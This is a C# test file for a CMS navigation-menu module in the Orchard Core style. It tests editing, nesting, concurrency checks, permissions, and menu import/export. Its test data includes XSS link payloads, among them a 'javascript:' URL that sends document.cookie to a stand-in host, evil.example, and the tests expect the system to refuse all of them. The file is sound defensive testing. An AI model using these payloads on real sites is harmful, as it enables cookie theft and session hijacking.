using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using AngleSharp.Dom;
using Cms.Web.Tests.Admin;
using Cms.Web.Tests.Practice;
using Cms.Web.Tests.Support;

namespace Cms.Web.Tests.Modules;

/// <summary>
/// Issue 13, item 5: Orchard's Menu as a second module. The practice's navigation is its main menu (alias main-menu);
/// a practice manager adds a page and a booking link, nests, reorders and removes them in the admin, and every page
/// shows the change; an Orchard menu imports and exports unchanged; a link that would run script is refused.
/// </summary>
public sealed class MenuModuleTests : IClassFixture<CmsFactory>
{
    private const string MainMenu = "practicemainmenu0000000001";
    private const string Editor = AdminSite.Base + "/admin/menus/" + MainMenu;
    private const string FeesPage = "pagefeesandinsurance000001";

    private readonly CmsFactory _factory;

    public MenuModuleTests(CmsFactory factory)
    {
        _factory = factory;
    }

    [Fact]
    public async Task TheNavigationIsTheMainMenuInOrderUnderThePracticesPrefixWithTheCurrentPageMarked()
    {
        var home = await PublicSite.PageAsync(_factory.Client(), PublicSite.Base + "/");
        Assert.Equal(
            [("Articles", "/riverbend/articles"), ("Series", "/riverbend/series"), ("Counselors", "/riverbend/counselors"), ("Contact", "/riverbend/contact")],
            Navigation(home).Select(a => (a.TextContent, a.GetAttribute("href"))));
        Assert.Empty(home.QuerySelectorAll("nav.site-nav a[aria-current]"));

        var contact = await PublicSite.PageAsync(_factory.Client(), PublicSite.Base + "/contact");
        Assert.Equal(["Contact"], contact.QuerySelectorAll("nav.site-nav a[aria-current='page']").Select(a => a.TextContent));

        // A page under a link's page marks that link as the section the reader is in.
        var article = await PublicSite.PageAsync(_factory.Client(), PublicSite.Article1);
        Assert.Equal(["Articles"], article.QuerySelectorAll("nav.site-nav a[aria-current='true']").Select(a => a.TextContent));
    }

    [Fact]
    public async Task APracticeManagerAddsAPageAndABookingLinkThenNestsReordersAndRemovesThem()
    {
        var admin = await AdminSite.SignInAsync(_factory, CmsFactory.AdminUser, CmsFactory.AdminPassword);
        var client = _factory.Client();

        // A page rendered (and cached) before the change shows it after. Each test leaves the menu as it found it.
        var start = Navigation(await PublicSite.PageAsync(client, PublicSite.Article1)).Select(a => a.TextContent).ToList();
        await ChangeAsync(admin, "AddPage", new("page", FeesPage), new("text", "Fees"));
        await ChangeAsync(admin, "AddLink", new("text", "Book a session"), new("url", "https://booking.example.com/riverbend"), new("newTab", "true"));

        var links = Navigation(await PublicSite.PageAsync(client, PublicSite.Article1));
        Assert.Equal([.. start, "Fees", "Book a session"], links.Select(a => a.TextContent));
        Assert.Equal("/riverbend/fees-and-insurance", links[^2].GetAttribute("href"));
        Assert.Equal(("https://booking.example.com/riverbend", "_blank", "noopener"), (links[^1].GetAttribute("href"), links[^1].GetAttribute("target"), links[^1].GetAttribute("rel")));

        // Saved in Orchard's shape: a ContentMenuItem with its picker, a LinkMenuItem with Name, Url and Target.
        var items = (await AdminSite.ExportedAsync(admin, MainMenu))["MenuItemsListPart"]!["MenuItems"]!.AsArray();
        var fees = items[^2]!;
        var booking = items[^1]!;
        Assert.Equal(("ContentMenuItem", "Fees", FeesPage), ((string?)fees["ContentType"], (string?)fees["DisplayText"], (string?)fees["ContentMenuItemPart"]!["SelectedContentItem"]!["ContentItemIds"]![0]));
        Assert.Equal(
            ("LinkMenuItem", "Book a session", "https://booking.example.com/riverbend", "_blank"),
            ((string?)booking["ContentType"], (string?)booking["LinkMenuItemPart"]!["Name"], (string?)booking["LinkMenuItemPart"]!["Url"], (string?)booking["LinkMenuItemPart"]!["Target"]));

        // The booking link up one; the fees page under the link above it (now the booking link); out again; both removed.
        var bookingId = (string)booking["ContentItemId"]!;
        var feesId = (string)fees["ContentItemId"]!;
        await ChangeAsync(admin, "Move", new("item", bookingId), new("move", "up"));
        await ChangeAsync(admin, "Move", new("item", feesId), new("move", "in"));
        var nested = await PublicSite.PageAsync(client, PublicSite.Base + "/");
        Assert.Equal([.. start, "Book a session"], Navigation(nested).Select(a => a.TextContent));
        Assert.Equal(["Fees"], nested.QuerySelectorAll($"nav.site-nav > ul > li:nth-child({start.Count + 1}) > ul > li > a").Select(a => a.TextContent));
        var exported = (await AdminSite.ExportedAsync(admin, MainMenu))["MenuItemsListPart"]!["MenuItems"]!.AsArray();
        Assert.Equal(feesId, (string?)exported[start.Count]!["MenuItemsListPart"]!["MenuItems"]![0]!["ContentItemId"]);

        await ChangeAsync(admin, "Move", new("item", feesId), new("move", "out"));
        Assert.Equal([.. start, "Book a session", "Fees"], Navigation(await PublicSite.PageAsync(client, PublicSite.Base + "/")).Select(a => a.TextContent));
        await ChangeAsync(admin, "Move", new("item", bookingId), new("move", "remove"));
        await ChangeAsync(admin, "Move", new("item", feesId), new("move", "remove"));
        Assert.Equal(start, Navigation(await PublicSite.PageAsync(client, PublicSite.Base + "/")).Select(a => a.TextContent));
    }

    [Theory]
    [InlineData("javascript:alert(document.cookie)")]
    [InlineData("JavaScript:alert(1)")]
    [InlineData("data:text/html,<script>alert(1)</script>")]
    [InlineData("java\tscript:alert(1)")]
    public async Task ALinkThatWouldRunScriptIsRefusedWithWhyAndTheMenuIsLeftAsItWas(string url)
    {
        var admin = await AdminSite.SignInAsync(_factory, CmsFactory.AdminUser, CmsFactory.AdminPassword);
        var before = (await AdminSite.ExportedAsync(admin, MainMenu)).ToJsonString();

        var response = await PostAsync(admin, "AddLink", new("text", "Click me"), new("url", url));
        var page = await PublicSite.ParseAsync(await response.Content.ReadAsStringAsync(), Editor);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("Nothing was changed", page.QuerySelector("[role=alert]")!.TextContent, StringComparison.Ordinal);
        Assert.NotNull(page.QuerySelector("#add-url + .hint + .error, #add-url ~ .error"));
        Assert.Equal("Click me", page.QuerySelector("#add-text")!.GetAttribute("value"));
        Assert.Equal(before, (await AdminSite.ExportedAsync(admin, MainMenu)).ToJsonString());
    }

    [Fact]
    public async Task AChangeMadeOnAPageOpenedBeforeSomeoneElsesIsRefusedNotOverwritten()
    {
        var admin = await AdminSite.SignInAsync(_factory, CmsFactory.AdminUser, CmsFactory.AdminPassword);
        var stale = (await PublicSite.PageAsync(admin, Editor)).QuerySelector("input[name=version]")!.GetAttribute("value")!;
        await ChangeAsync(admin, "AddLink", new("text", "Parking"), new("url", "~/parking"));
        var before = (await AdminSite.ExportedAsync(admin, MainMenu)).ToJsonString();

        var response = await AdminSite.PostFormAsync(admin, Editor, [new("version", stale), new("text", "Directions"), new("url", "~/directions")], "AddLink");

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("Someone else changed this menu", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Equal(before, (await AdminSite.ExportedAsync(admin, MainMenu)).ToJsonString());
        var parking = (string)(await AdminSite.ExportedAsync(admin, MainMenu))["MenuItemsListPart"]!["MenuItems"]!.AsArray()[^1]!["ContentItemId"]!;
        await ChangeAsync(admin, "Move", new("item", parking), new("move", "remove"));
    }

    [Fact]
    public async Task RenamingTheMenuInTheItemEditorKeepsItsLinksAndOnlyEditorsOpenTheLinksPage()
    {
        var admin = await AdminSite.SignInAsync(_factory, CmsFactory.AdminUser, CmsFactory.AdminPassword);
        var before = (await AdminSite.ExportedAsync(admin, MainMenu))["MenuItemsListPart"]!.ToJsonString();
        var itemEditor = AdminSite.Base + "/admin/content/" + MainMenu;
        var form = (await AdminSite.FormFieldsAsync(admin, itemEditor)).With("TitlePart.Title", "Main navigation").With("action", "publish");
        var token = await AdminSite.AntiforgeryTokenAsync(admin, itemEditor);

        var saved = await admin.PostAsync(itemEditor, new FormUrlEncodedContent(form.With("__RequestVerificationToken", token)));

        Assert.Equal(HttpStatusCode.Found, saved.StatusCode);
        var exported = await AdminSite.ExportedAsync(admin, MainMenu);
        Assert.Equal("Main navigation", (string?)exported["TitlePart"]!["Title"]);
        Assert.Equal(before, exported["MenuItemsListPart"]!.ToJsonString());
        Assert.Equal(["Edit the menu's links"], (await PublicSite.PageAsync(admin, itemEditor)).QuerySelectorAll("a.button-quiet[href*='/admin/menus/']").Select(a => a.TextContent.Trim()));

        // An author writes their own articles; the navigation is not theirs to change.
        await AdminSite.AddUserAsync(admin, "menu-author", "a-long-password-1", "Author");
        var author = await AdminSite.SignInAsync(_factory, "menu-author", "a-long-password-1");
        Assert.Equal(HttpStatusCode.Forbidden, (await author.GetAsync(Editor)).StatusCode);
    }

    [Fact]
    public async Task AnOrchardMenuImportsAndExportsUnchanged()
    {
        var admin = await AdminSite.SignInAsync(_factory, CmsFactory.AdminUser, CmsFactory.AdminPassword);
        var menu = JsonNode.Parse(OrchardMenu)!.AsObject();

        var report = await ImportAsync(new JsonObject { ["steps"] = new JsonArray(new JsonObject { ["name"] = "content", ["data"] = new JsonArray(menu.DeepClone()) }) });

        Assert.True(report.GetProperty("applied").GetBoolean(), report.ToString());
        var exported = await AdminSite.ExportedAsync(admin, "4nm1vms5mbanyx2n23f88c7mn8");
        Assert.True(JsonNode.DeepEquals(menu, exported), $"Exported as {exported.ToJsonString()}");

        // Its links read as a theme reads them: in order, nested, the text from DisplayText, ~/ resolved.
        var links = Cms.Menu.MenuTree.Read(exported);
        Assert.Equal(["HomePage", "Calendars", "Feedback", "Help"], links.Select(l => l.Text));
        Assert.Equal(("/", null), (links[0].Url, links[0].Target));
        Assert.Equal(["Contact us"], links[3].Children.Select(l => l.Text));
        Assert.Equal(("https://www.statcan.gc.ca/contact", "_blank"), (links[3].Children[0].Url, links[3].Children[0].Target));
    }

    [Fact]
    public async Task ARecipeThatTurnsMenusOnHasItsMenuCheckedInTheSameImportAndNothingIsWritten()
    {
        var admin = await AdminSite.SignInAsync(_factory, CmsFactory.AdminUser, CmsFactory.AdminPassword);
        var off = await AdminSite.PostFormAsync(admin, AdminSite.Base + "/admin/features", [new("feature", "OrchardCore.Menu"), new("on", "false")]);
        Assert.Equal(HttpStatusCode.Found, off.StatusCode);

        // With the feature off the layout shows its own links, and the menu's editor is gone.
        Assert.Equal(["Articles", "Series", "Counselors", "Contact"], Navigation(await PublicSite.PageAsync(_factory.Client(), PublicSite.Base + "/")).Select(a => a.TextContent));
        Assert.Equal(HttpStatusCode.NotFound, (await admin.GetAsync(Editor)).StatusCode);

        var recipe = new JsonObject
        {
            ["steps"] = new JsonArray(
                new JsonObject { ["name"] = "feature", ["enable"] = new JsonArray("OrchardCore.Menu") },
                new JsonObject
                {
                    ["name"] = "content",
                    ["data"] = new JsonArray(JsonNode.Parse($$"""
                        { "ContentItemId": "badmenu00000000000000001", "ContentType": "Menu", "DisplayText": "Bad", "Latest": true, "Published": true,
                          "TitlePart": { "Title": "Bad" }, "AliasPart": { "Alias": "bad" }, "MenuPart": {},
                          "MenuItemsListPart": { "MenuItems": [ { "ContentItemId": "badlink0000000000000000001", "ContentType": "LinkMenuItem", "DisplayText": "Win a prize",
                            "LinkMenuItemPart": { "Name": "Win a prize", "Url": "javascript:fetch('//evil.example/'+document.cookie)" } } ] } }
                        """)),
                }),
        };

        var report = await ImportAsync(recipe);

        Assert.False(report.GetProperty("applied").GetBoolean(), report.ToString());
        Assert.Contains(report.GetProperty("errors").EnumerateArray(), e => e.GetProperty("location").GetString() == "/steps/1/data/0/MenuItemsListPart/MenuItems/0/LinkMenuItemPart/Url");
        var features = await PublicSite.PageAsync(admin, AdminSite.Base + "/admin/features");
        Assert.Equal("Off", features.QuerySelector("[data-feature='OrchardCore.Menu'] .status")!.TextContent);

        var on = await AdminSite.PostFormAsync(admin, AdminSite.Base + "/admin/features", [new("feature", "OrchardCore.Menu"), new("on", "true")]);
        Assert.Equal(HttpStatusCode.Found, on.StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await admin.GetAsync(Editor)).StatusCode);
    }

    [Fact]
    public async Task AMenuWhoseItemsShareAnIdIsRefusedByPointerAndNothingIsWritten()
    {
        var before = (await PublicSite.PageAsync(_factory.Client(), PublicSite.Base + "/")).QuerySelector("nav.site-nav")!.OuterHtml;
        // The second id is repeated one level down: ids are the menu's, not a level's (the editor moves items between levels by id).
        var recipe = new JsonObject
        {
            ["steps"] = new JsonArray(new JsonObject
            {
                ["name"] = "content",
                ["data"] = new JsonArray(JsonNode.Parse("""
                    { "ContentItemId": "twinmenu0000000000000001", "ContentType": "Menu", "DisplayText": "Twins", "Latest": true, "Published": true,
                      "TitlePart": { "Title": "Twins" }, "AliasPart": { "Alias": "main-menu" }, "MenuPart": {},
                      "MenuItemsListPart": { "MenuItems": [
                        { "ContentItemId": "twinlink0000000000000001", "ContentType": "LinkMenuItem", "DisplayText": "Fees", "LinkMenuItemPart": { "Name": "Fees", "Url": "~/fees" } },
                        { "ContentItemId": "twinlink0000000000000002", "ContentType": "LinkMenuItem", "DisplayText": "About", "LinkMenuItemPart": { "Name": "About", "Url": "~/about" },
                          "MenuItemsListPart": { "MenuItems": [
                            { "ContentItemId": "twinlink0000000000000001", "ContentType": "LinkMenuItem", "DisplayText": "Team", "LinkMenuItemPart": { "Name": "Team", "Url": "~/team" } } ] } } ] } }
                    """)),
            }),
        };

        var report = await ImportAsync(recipe);

        Assert.False(report.GetProperty("applied").GetBoolean(), report.ToString());
        var error = Assert.Single(report.GetProperty("errors").EnumerateArray());
        Assert.Equal("/steps/0/data/0/MenuItemsListPart/MenuItems/1/MenuItemsListPart/MenuItems/0/ContentItemId", error.GetProperty("location").GetString());
        Assert.Contains("Another item of this menu has the id 'twinlink0000000000000001'", error.GetProperty("message").GetString(), StringComparison.Ordinal);
        Assert.Equal(before, (await PublicSite.PageAsync(_factory.Client(), PublicSite.Base + "/")).QuerySelector("nav.site-nav")!.OuterHtml);
    }

    private static List<IElement> Navigation(IDocument page) => page.QuerySelectorAll("nav.site-nav > ul > li > a").ToList();

    private static async Task<HttpResponseMessage> PostAsync(HttpClient admin, string handler, params KeyValuePair<string, string>[] fields)
    {
        var version = (await PublicSite.PageAsync(admin, Editor)).QuerySelector("input[name=version]")!.GetAttribute("value")!;
        return await AdminSite.PostFormAsync(admin, Editor, fields.Append(new("version", version)), handler);
    }

    private static async Task ChangeAsync(HttpClient admin, string handler, params KeyValuePair<string, string>[] fields)
    {
        var response = await PostAsync(admin, handler, fields);
        Assert.True(response.StatusCode == HttpStatusCode.Found, $"{handler}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
    }

    private async Task<JsonElement> ImportAsync(JsonObject recipe)
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, AdminSite.Base + "/api/recipes") { Content = new StringContent(recipe.ToJsonString(), Encoding.UTF8, "application/json") };
        request.Headers.Add("X-Api-Key", CmsFactory.ApiKey);
        using var response = await _factory.Client().SendAsync(request);
        return await response.Content.ReadFromJsonAsync<JsonElement>();
    }

    // A menu as Orchard Core exports it (from StatCan's Scheduling recipe, with a nested link added): every envelope
    // property, a type this host has no definition for (TaxonomyMenuItem), parts the items' types add of their own.
    private const string OrchardMenu = """
        {
          "ContentItemId": "4nm1vms5mbanyx2n23f88c7mn8",
          "ContentItemVersionId": "4t9gwmrw73vxzr5eavsgxxdfdq",
          "ContentType": "Menu",
          "DisplayText": "Navigation Menu EN",
          "Latest": true,
          "Published": true,
          "ModifiedUtc": "2021-06-09T00:45:40.9829204Z",
          "PublishedUtc": "2021-06-09T00:45:40.9854811Z",
          "CreatedUtc": "2021-04-23T17:44:24.6263983Z",
          "Owner": "4dtgvzw6m75944r84m07brxhnx",
          "Author": "admin",
          "TitlePart": { "Title": "Navigation Menu EN" },
          "AliasPart": { "Alias": "navigation-drawer-en" },
          "MenuPart": {},
          "MenuItemsListPart": {
            "MenuItems": [
              {
                "ContentItemId": "45kfyr6dj9ek01d301n831psn8", "ContentItemVersionId": null, "ContentType": "LinkMenuItem", "DisplayText": "HomePage",
                "Latest": false, "Published": false, "ModifiedUtc": "2021-04-26T13:01:24.14465Z", "PublishedUtc": null, "CreatedUtc": null, "Owner": null, "Author": "admin",
                "LinkMenuItemPart": { "Name": "HomePage", "Url": "~/" },
                "LinkMenuItem": { "IconName": { "Text": "mdi-home" } }
              },
              {
                "ContentItemId": "4gwk2vpgp868h33c5s3qgdstnc", "ContentItemVersionId": null, "ContentType": "TaxonomyMenuItem", "DisplayText": "Calendars",
                "Latest": false, "Published": false, "ModifiedUtc": "2021-04-22T15:13:32.808932Z", "PublishedUtc": null, "CreatedUtc": null, "Owner": null, "Author": "admin",
                "TaxonomyMenuItem": { "Expanded": { "Value": true }, "Taxonomy": { "ContentItemIds": [ "4wnw5cysybe8szzhehezz5b74b" ] }, "IconName": { "Text": "mdi-calendar" } },
                "TitlePart": { "Title": "Calendars" },
                "LinkMenuItemPart": { "Name": "Cohorts", "Url": null }
              },
              {
                "ContentItemId": "4derksqv47taz6pvgfvpkh2zwj", "ContentItemVersionId": null, "ContentType": "ContentMenuItem", "DisplayText": "Feedback",
                "Latest": false, "Published": false, "ModifiedUtc": "2021-04-23T17:44:36.7371328Z", "PublishedUtc": null, "CreatedUtc": null, "Owner": null, "Author": "inno_adm",
                "ContentMenuItemPart": { "Name": "Feedback", "SelectedContentItem": { "ContentItemIds": [ "4ty56s2p8vfhmxp76p4f37b1c3" ] } },
                "ContentMenuItem": { "IconName": { "Text": "mdi-comment-quote" } }
              },
              {
                "ContentItemId": "4hlpmenuhelp0000000000001", "ContentType": "LinkMenuItem", "DisplayText": "Help",
                "LinkMenuItemPart": { "Name": "Help", "Url": "~/help", "Target": null },
                "MenuItemsListPart": {
                  "MenuItems": [
                    { "ContentItemId": "4hlpmenucontact00000000001", "ContentType": "LinkMenuItem", "DisplayText": "Contact us",
                      "LinkMenuItemPart": { "Name": "Contact us", "Url": "https://www.statcan.gc.ca/contact", "Target": "_blank" } }
                  ]
                }
              }
            ]
          },
          "@WeldedPartSettings": { "MenuPart": { "Position": "3" }, "MenuItemsListPart": { "Position": "4" } }
        }
        """;
}
